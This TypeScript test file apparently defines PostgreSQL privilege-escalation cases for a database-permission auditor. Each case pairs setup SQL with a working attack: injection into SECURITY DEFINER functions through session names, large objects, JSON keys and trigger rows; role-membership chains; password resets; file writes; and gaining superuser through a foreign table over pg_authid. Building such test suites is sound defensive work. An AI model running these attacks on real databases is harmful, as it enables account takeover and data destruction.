import { type AttackCase, superuserProof } from "../attack-case.ts"

/** A function of the owner's, run with its rights: name and arguments, what it returns, body in PL/pgSQL. */
function definer(signature: string, body: string, more = "", returns = "void"): string {
  const types = signature.replace(/\((.*)\)$/, (_, list: string) => `(${typesIn(list)})`)
  return `create function ${signature} returns ${returns} language plpgsql security definer ${more} as $body$ ${body} $body$;
    alter function ${types} owner to {owner};`
}

function typesIn(list: string): string {
  return list
    .split(",")
    .filter((each) => each.trim() !== "")
    .map((each) => each.trim().replace(/^\w+ /, ""))
    .join(", ")
}

/** The same with the caller's rights. */
function helper(signature: string, body: string, returns = "void"): string {
  return definer(signature, body, "", returns).replace("security definer", "")
}

/** Only the owner may call it. */
const maintenance = `create function app.maintain() returns int language plpgsql as 'begin create table app.pwned(); return 1; end';
  alter function app.maintain() owner to {owner}; revoke all on function app.maintain() from public;`
const pwn = "create table app.pwned()"
/** Text that is SQL for the owner, and does nothing as anybody else. */
const patient = "do $x$ begin if current_user like 'owner%' then create table app.pwned(); end if; end $x$"
const quoted = (sql: string) => `$q$${sql}$q$`

/** Written by somebody who had not read the audit: chains, odd channels for text, and what is reached without EXECUTE. */
export const secondPaths: readonly AttackCase[] = [
  // Roles and grants
  {
    name: "a role with an odd name stands between",
    setup: `create role "Odd ""Role {app}"; grant {owner} to "Odd ""Role {app}"; grant "Odd ""Role {app}" to {app}`,
    attack: `set role "Odd ""Role {app}"; set role {owner}; ${pwn}`,
  },
  {
    name: "two grants of one membership, and only one of them lets it become the owner",
    since: 16,
    setup: `create role {group}; grant {owner} to {group} with admin true;
      grant {owner} to {app} with inherit false, set false;
      grant {owner} to {app} with inherit false, set true granted by {group}`,
    attack: `set role {owner}; ${pwn}`,
  },
  {
    name: "inherits by the grant, although the role no longer does",
    since: 16,
    setup: "grant {owner} to {app} with set false; alter role {app} noinherit",
    attack: pwn,
  },
  {
    name: "does not inherit before 16, and may become it",
    until: 15,
    setup:
      "alter role {app} noinherit; create role {group} noinherit; grant {owner} to {group}; grant {group} to {app}",
    attack: `set role {owner}; ${pwn}`,
  },
  {
    name: "may become a role that makes roles",
    setup: "create role {group} createrole; grant {group} to {app}",
    attack: "set role {group}; create role {pwned}",
  },
  {
    name: "trigger for a group that it may become",
    setup: `create role {group}; alter role {app} noinherit; grant {group} to {app}; grant usage on schema app to {group}; grant trigger on app.users to {group};
      create function app.t() returns trigger language plpgsql as 'begin return new; end'`,
    attack:
      "set role {group}; create trigger pwned before insert on app.users for each row execute function app.t()",
  },
  {
    name: "create on a schema with an odd name, for everybody",
    setup: `create schema "Odd ""Schema"; grant all on schema "Odd ""Schema" to public`,
    attack: `create table "Odd ""Schema".pwned()`,
  },
  {
    name: "a dynamic definer in a schema for everybody",
    setup: `create schema util; grant usage on schema util to public; ${definer("util.run(q text)", "begin execute q; end")}`,
    attack: `select util.run('${pwn}')`,
  },
  {
    name: "grant option on a sequence",
    setup: "create sequence app.s; grant usage on sequence app.s to {app} with grant option",
    attack: "grant usage on sequence app.s to {other}",
    proof: "select has_sequence_privilege('{other}', 'app.s', 'usage')",
  },
  {
    name: "grant option on a type",
    setup:
      "create domain app.d as int; revoke all on type app.d from public; grant usage on type app.d to {app} with grant option",
    attack: "grant usage on type app.d to {other}",
    proof: "select has_type_privilege('{other}', 'app.d', 'usage')",
  },
  {
    name: "grant option on a parameter",
    since: 15,
    setup: "grant set on parameter log_statement to {app} with grant option",
    attack: "grant set on parameter log_statement to {other}",
    proof: "select has_parameter_privilege('{other}', 'log_statement', 'set')",
  },
  {
    name: "default privileges: triggers only",
    setup: "alter default privileges for role {owner} in schema app grant trigger on tables to {rw}",
    attack: "",
    proof: `select exists (select from pg_default_acl d join pg_roles r on r.oid = d.defaclrole, aclexplode(d.defaclacl) a where r.rolname = '{owner}' and a.privilege_type = 'TRIGGER')`,
  },

  // Ownership
  {
    name: "owns a composite type",
    setup: "create type app.pair as (a int); alter type app.pair owner to {app}",
    attack: "alter type app.pair add attribute pwned int",
  },
  {
    name: "owns an operator class",
    setup:
      "create operator class app.c for type int using btree as function 1 btint4cmp(int, int); alter operator class app.c using btree owner to {app}",
    attack: "drop operator class app.c using btree",
    proof: "select not exists (select from pg_opclass where opcname = 'c')",
  },
  {
    name: "owns a text search dictionary",
    setup:
      "create text search dictionary app.dict (template = simple); alter text search dictionary app.dict owner to {app}",
    attack: "alter text search dictionary app.dict (accept = false)",
    proof: "select dictinitoption is not null from pg_ts_dict where dictname = 'dict'",
  },
  {
    name: "owns the language",
    setup: "alter language plpgsql owner to {app}",
    attack: "alter language plpgsql rename to pwnedlang",
    proof: "select exists (select from pg_language where lanname = 'pwnedlang')",
  },
  {
    name: "owns a foreign table",
    setup: `create foreign data wrapper w; create server s foreign data wrapper w; create foreign table app.f (a int) server s; alter foreign table app.f owner to {app}`,
    attack: "alter foreign table app.f add column pwned int",
  },
  {
    name: "the function of a domain's check belongs to it",
    setup: `create function app.is_good(t text) returns boolean language plpgsql as 'begin return true; end'; alter function app.is_good(text) owner to {app};
      create domain app.good as text check (app.is_good(value)); alter table app.users alter column name type app.good`,
    attack: "alter function app.is_good(text) security definer",
    proof: "select prosecdef from pg_proc where proname = 'is_good'",
  },

  // Text from odd places
  {
    name: "a job that one function enqueues and another one runs",
    setup: `create table app.jobs (q text); alter table app.jobs owner to {owner};
      ${definer("app.enqueue(job text)", "begin insert into app.jobs values (job); end")}
      ${definer("app.run_jobs()", "declare j record; begin for j in select q from app.jobs loop execute j.q; end loop; end")}`,
    attack: `select app.enqueue('${pwn}'); select app.run_jobs()`,
  },
  {
    name: "a large object that it may choose",
    setup: definer("app.run_lo(id oid)", "begin execute convert_from(lo_get(id), 'utf8'); end"),
    attack: `select lo_from_bytea(424242, '${pwn}'); grant select on large object 424242 to public; select app.run_lo(424242)`,
  },
  {
    name: "a large object with a number that is written down",
    setup: `${definer("app.run_lo()", "begin execute convert_from(lo_get(424242), 'utf8'); end")} alter function app.run_lo() owner to {superuser}`,
    attack: `select lo_from_bytea(424242, '${pwn}'); select app.run_lo()`,
  },
  {
    name: "the text of the query",
    setup: definer(
      "app.note()",
      "begin execute 'insert into app.audit_log (note) values (''' || current_query() || ''')'; end",
    ),
    attack: `select app.note(), $x$'); ${pwn}; --$x$`,
  },
  {
    name: "the session's application_name from pg_stat_activity",
    setup: definer(
      "app.note()",
      "declare n text; begin select application_name into n from pg_stat_activity where pid = pg_backend_pid(); execute 'select ''' || n || ''''; end",
    ),
    attack: `set application_name = '''; ${pwn}; --'; select app.note()`,
  },
  {
    name: "the name of a channel that it listens to",
    apart: true,
    setup: definer(
      "app.run()",
      "declare c text; begin for c in select pg_listening_channels() loop execute c; end loop; end",
    ),
    attack: `listen "${pwn}"; select app.run()`,
  },
  {
    name: "a setting of its own role, from the catalog",
    setup: `${definer(
      "app.run()",
      "declare c text; begin for c in select substr(unnest(setconfig), 18) from pg_db_role_setting loop execute c; end loop; end",
    )}`,
    attack: `alter role {app} set application_name = '${pwn}'; select app.run()`,
  },
  {
    name: "a column that it may update",
    setup: `create table app.config (key text, value text); alter table app.config owner to {owner}; insert into app.config values ('job', 'select 1');
      grant select on app.config to {app}; grant update (value) on app.config to {app};
      ${definer("app.job()", "begin execute (select value from app.config where key = 'job'); end")}`,
    attack: `update app.config set value = '${pwn}'; select app.job()`,
  },
  {
    name: "varchar(3) holds any text in an argument",
    setup: definer("app.pick(c varchar(3))", "begin execute 'select ' || c; end").replace(
      "app.pick(varchar(3)) owner",
      "app.pick(varchar) owner",
    ),
    attack: `select app.pick('1; ${pwn}')`,
  },
  {
    name: "quotes that are doubled by hand",
    until: 18,
    setup: definer("app.find(n text)", "begin execute 'select ''' || replace(n, '''', '''''') || ''''; end"),
    attack: `set standard_conforming_strings = off; select app.find(E'\\\\\\'; ${pwn}; --')`,
  },
  {
    name: "keys of a JSON object",
    setup: definer(
      "app.patch(j jsonb)",
      "declare s text; begin select string_agg(key || ' = ' || quote_literal(value), ', ') into s from jsonb_each_text(j); execute 'update app.users set ' || s; end",
    ),
    attack: `select app.patch(jsonb_build_object('name = null; ${pwn}; --', '1'))`,
  },
  {
    name: "a list of texts",
    setup: definer(
      "app.pick(cols text[])",
      "begin execute 'select ' || array_to_string(cols, ',') || ' from app.users'; end",
    ),
    attack: `select app.pick(array['1; ${pwn}; --'])`,
  },
  {
    name: "a name that is not quoted, in lower case",
    setup: definer(
      "app.pick(c name)",
      "begin execute format('select count(*) from app.users order by %s', lower(trim(c::text))); end",
    ),
    attack: `select app.pick('1; ${pwn}')`,
  },

  // How it is run
  {
    name: "a cursor that is opened for a text",
    setup: `${maintenance} ${definer("app.run(q text)", "declare c refcursor; n int; begin open c for execute q; fetch c into n; close c; end")}`,
    attack: "select app.run('select app.maintain()')",
  },
  {
    name: "return query execute",
    setup: `${maintenance} ${definer("app.run(q text)", "begin return query execute q; end", "", "setof int")}`,
    attack: "select app.run('select app.maintain()')",
  },
  {
    name: "an exception's handler",
    setup: definer(
      "app.run(q text)",
      "begin begin raise 'no'; exception when others then while true loop execute q; exit; end loop; end; end",
    ),
    attack: `select app.run('${pwn}')`,
  },
  {
    name: "ts_stat of a superuser runs a query",
    setup: `create function app.words(q text) returns bigint language sql security definer as 'select count(*) from ts_stat(q)'`,
    attack: `select lo_from_bytea(424242, 'x'); select app.words($q$select to_tsvector('simple', lo_export(424242, '{file}')::text)$q$)`,
    proof: "select (pg_stat_file('{file}', true)).size is not null",
  },
  {
    name: "anybody's password",
    setup: definer(
      "app.set_password(r text, p text)",
      "begin execute format('alter role %I password %L', r, p); end",
    ).replace("owner to {owner}", "owner to {superuser}"),
    attack: "select app.set_password('{migrator}', 'x')",
    proof: "select rolpassword is not null from pg_authid where rolname = '{migrator}'",
  },
  {
    name: "membership by name",
    setup: definer(
      "app.join(r text)",
      "begin execute format('grant %I to %I', r, session_user); end",
    ).replace("owner to {owner}", "owner to {superuser}"),
    attack: `select app.join('{owner}'); set role {owner}; ${pwn}`,
  },
  {
    name: "a table that is dropped by name",
    setup: definer("app.remove(t text)", "begin execute 'drop table app.' || quote_ident(t); end"),
    attack: "select app.remove('users')",
    proof: "select to_regclass('app.users') is null",
  },
  {
    name: "a grant that is written out",
    setup: `create table app.secret (s text); alter table app.secret owner to {owner};
      ${definer("app.open()", "begin grant select on app.secret to public; end")}`,
    attack: "select app.open()",
    proof: "select has_table_privilege('{app}', 'app.secret', 'select')",
  },
  {
    name: "a statement's trigger with its rows",
    setup: `${definer("app.t()", "declare r record; begin for r in select * from new_rows loop execute r.name; end loop; return null; end", "", "trigger")}
      create trigger t after insert on app.users referencing new table as new_rows for each statement execute function app.t()`,
    attack: `insert into app.users (name) values ('${pwn}')`,
  },
  {
    name: "a trigger that waits for the end of the transaction",
    setup: `${definer("app.t()", "begin execute new.name; return null; end", "", "trigger")}
      create constraint trigger t after insert on app.users deferrable initially deferred for each row execute function app.t()`,
    attack: `insert into app.users (name) values ('${pwn}'); set constraints all immediate`,
  },
  {
    name: "a trigger for updates of the one column that it may update",
    setup: `create table app.notes (id int, note text); alter table app.notes owner to {owner}; insert into app.notes values (1, ''); grant select on app.notes to {app}; grant update (note) on app.notes to {app};
      ${definer("app.t()", "begin execute new.note; return new; end", "", "trigger")}
      create trigger t before update of note on app.notes for each row execute function app.t()`,
    attack: `update app.notes set note = '${pwn}'`,
  },
  {
    name: "the trigger of a table that a trigger writes to",
    setup: `create table app.queue (note text); alter table app.queue owner to {owner};
      ${helper("app.t2()", "begin execute new.note; return new; end", "trigger")}
      create trigger t2 before insert on app.queue for each row execute function app.t2();
      ${definer("app.t1()", "begin insert into app.queue values (new.name); return new; end", "", "trigger")}
      create trigger t1 before insert on app.users for each row execute function app.t1()`,
    attack: `insert into app.users (name) values ('${pwn}')`,
  },
  {
    name: "a check of a table that a definer writes to",
    setup: `create table app.queue (note text); alter table app.queue owner to {owner};
      ${helper("app.valid(q text)", "begin execute q; return true; end", "boolean")}
      alter table app.queue add check (app.valid(note));
      ${definer("app.add(q text)", "begin insert into app.queue values (q); end")}`,
    attack: `select app.add('${pwn}')`,
  },
  {
    name: "a view that a definer reads runs what stands in a row",
    setup: `${helper("app.run(q text)", "begin execute q; return 1; end", "int")}
      revoke all on function app.run(text) from public;
      create view app.v as select app.run(name) as r from app.users; alter view app.v owner to {owner};
      ${definer("app.total()", "begin return (select sum(r) from app.v); end", "", "bigint")}`,
    attack: `insert into app.users (name) values ('${pwn}'); select app.total()`,
  },
  {
    name: "row security that a definer meets runs what stands in a row",
    setup: `${helper("app.visible(q text)", "begin execute q; return true; end", "boolean")}
      revoke all on function app.visible(text) from public;
      create table app.notes (note text); alter table app.notes owner to {owner}; grant insert on app.notes to {app};
      alter table app.notes enable row level security, force row level security; create policy p on app.notes for select using (app.visible(note)); create policy i on app.notes for insert with check (true);
      ${definer("app.total()", "begin return (select count(*) from app.notes); end", "", "bigint")}`,
    attack: `insert into app.notes values ('${pwn}'); select app.total()`,
  },
  {
    name: "a materialized view that a definer refreshes runs what stands in a row",
    setup: `${helper("app.run(q text)", "begin execute q; return 1; end", "int")}
      revoke all on function app.run(text) from public;
      create materialized view app.mv as select app.run(name) as r from app.users; alter materialized view app.mv owner to {owner};
      ${definer("app.refresh()", "begin refresh materialized view app.mv; end")}`,
    attack: `insert into app.users (name) values ('${pwn}'); select app.refresh()`,
  },
  {
    name: "the final function of an aggregate",
    setup: `${definer("app.ff(s text)", "begin execute s; return 1; end", "", "int")} revoke all on function app.ff(text) from public;
      create aggregate app.agg (text) (sfunc = textcat, stype = text, finalfunc = app.ff, initcond = ''); alter aggregate app.agg(text) owner to {owner}`,
    attack: `select app.agg('${pwn}')`,
  },
  {
    name: "what an index compares with, without the right to execute it",
    setup: `${definer("app.cmp(a text, b text)", "begin if a ~ 'pwned' then execute a; end if; if b ~ 'pwned' then execute b; end if; return bttextcmp(a, b); end", "", "int")} revoke all on function app.cmp(text, text) from public;
      create operator class app.c for type text using btree as operator 1 <, operator 2 <=, operator 3 =, operator 4 >=, operator 5 >, function 1 app.cmp(text, text);
      create index on app.users (name app.c); alter operator class app.c using btree owner to {owner}`,
    attack: `insert into app.users (name) values ('a'); insert into app.users (name) values ('${pwn}')`,
  },

  // What the owner runs later
  {
    name: "a trigger with the writer's rights runs what stands in a row, and the owner writes",
    setup: `${helper("app.t()", "begin execute new.name; return new; end", "trigger")}
      create trigger t before update on app.users for each row execute function app.t()`,
    attack: `insert into app.users (name) values (${quoted(pwn)})`,
    afterwards: "update app.users set id = id",
  },
  {
    name: "a check runs what stands in a row, and the owner writes",
    setup: `${helper("app.valid(q text)", "begin execute q; return true; end", "boolean")} alter table app.users add check (app.valid(name))`,
    attack: `insert into app.users (name) values (${quoted(patient)})`,
    afterwards: "update app.users set id = id + 1",
  },
  {
    name: "a materialized view runs what stands in a row, and the owner refreshes it",
    setup: `${helper("app.run(q text)", "begin execute q; return 1; end", "int")}
      create materialized view app.mv as select app.run(name) as r from app.users; alter materialized view app.mv owner to {owner}`,
    attack: `insert into app.users (name) values (${quoted(pwn)})`,
    afterwards: "refresh materialized view app.mv",
  },
  {
    name: "an index runs what stands in a row, and the owner looks after the table",
    setup: `${helper("app.run(q text)", "begin execute q; return 1; end", "int")}
      create function app.key(q text) returns int language plpgsql immutable as $$ begin return app.run(q); end $$; alter function app.key(text) owner to {owner};
      create index on app.users (app.key(name))`,
    attack: `insert into app.users (name) values (${quoted(patient)})`,
    afterwards: "analyze app.users; reindex table app.users",
  },

  // Temporary objects
  {
    name: "a row type by its bare name, with temp",
    setup: `grant temp on database {db} to {app}; grant usage on schema app to public;
      ${definer("app.first()", "declare r users%rowtype; begin select 1, 'x' into r; end", "set search_path = app")}`,
    attack: `create function pg_temp.evil(t text) returns boolean language plpgsql as $$ begin if current_user like 'owner%' then create table app.pwned(); end if; return true; end $$;
      create domain pg_temp.bad as text check (pg_temp.evil(value)); create temp table users (id int, name pg_temp.bad); select app.first()`,
  },
  {
    name: "a foreign table over pg_authid",
    apart: true,
    setup: `create extension postgres_fdw schema app; create server loop foreign data wrapper postgres_fdw options (host '{socket}', port '{port}', dbname '{db}');
      create user mapping for {app} server loop options (user '{superuser}', password_required 'false');
      create foreign table app.roles (rolname name, rolsuper boolean) server loop options (schema_name 'pg_catalog', table_name 'pg_authid');
      grant select, update on app.roles to {app}`,
    attack: "update app.roles set rolsuper = true where rolname = '{app}'",
    proof: superuserProof,
  },

  // Lockstep's own tables
  {
    name: "writes to the history",
    setup: `create schema lockstep authorization {migrator}; create table lockstep.revision (id text); alter table lockstep.revision owner to {migrator};
      grant usage on schema lockstep to {app}; grant insert on lockstep.revision to {app}`,
    attack: "insert into lockstep.revision values ('forged')",
    proof: "select exists (select from lockstep.revision)",
  },
  {
    name: "a writer of files from adminpack",
    until: 16,
    setup:
      "create extension adminpack; grant execute on function pg_catalog.pg_file_write(text, text, boolean) to {app}",
    attack: "select pg_catalog.pg_file_write('{pwned}', 'x', false)",
    proof: "select (pg_stat_file('{pwned}', true)).size is not null",
  },
]
